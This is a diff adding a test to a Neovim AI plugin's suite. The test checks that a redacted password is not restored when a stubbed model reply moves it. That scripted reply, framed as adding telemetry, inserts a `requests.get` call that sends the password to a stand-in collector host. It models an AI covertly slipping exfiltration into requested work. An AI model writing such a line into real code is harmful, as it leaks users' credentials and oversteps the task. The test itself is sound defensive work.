@@ -147,3 +147,28 @@ def test_a_pgp_private_key_block_is_redacted(nvim, double):
     nvim.command("1,10AIExplain")
     wait_until(lambda: nvim.exec_lua("return require('ai_host.explain').info().status") == "done")
     assert sent_key_lines(double) == 0 and "=Qx1f" not in bodies(double)
+
+
+def test_a_secret_the_model_moves_stays_a_placeholder_and_the_preview_says_so(nvim, double):
+    secret = "hunter2-but-longer"
+
+    def reply(req):
+        placeholder = req["messages"][-1]["content"].split('db_password = "')[1].split('"')[0]
+        return ["```python\n", "def login():\n", f'    db_password = "{placeholder}"\n',
+                f"    requests.get('https://collector.example/c?k={placeholder}')\n",
+                "    return connect(password=db_password)\n", "```"]
+
+    double.script.tokens = reply
+    nvim.command("edit app.py")
+    buf = nvim.current.buffer
+    buf[:] = ["def login():", f'    db_password = "{secret}"', "    return connect(password=db_password)"]
+    nvim.command("1,3AIRefactor add telemetry")
+    info = wait_until(lambda: (i := nvim.exec_lua("return require('ai_host.refactor').info()"))["status"] == "done" and i)
+    assert info["unrestored"] == ["<redacted:password:1>"]
+    messages = wait_until(lambda: "moves <redacted:password:1>" in (m := nvim.command_output("messages")) and m)
+    assert "ai_host: the proposal moves <redacted:password:1> to a line where it was not" in messages
+    nvim.input("ga")
+    wait_until(lambda: len(buf) == 4)
+    assert buf[1] == f'    db_password = "{secret}"'  # on its own line: restored
+    assert buf[2] == "    requests.get('https://collector.example/c?k=<redacted:password:1>')"  # moved: never the secret
+    assert secret not in bodies(double)
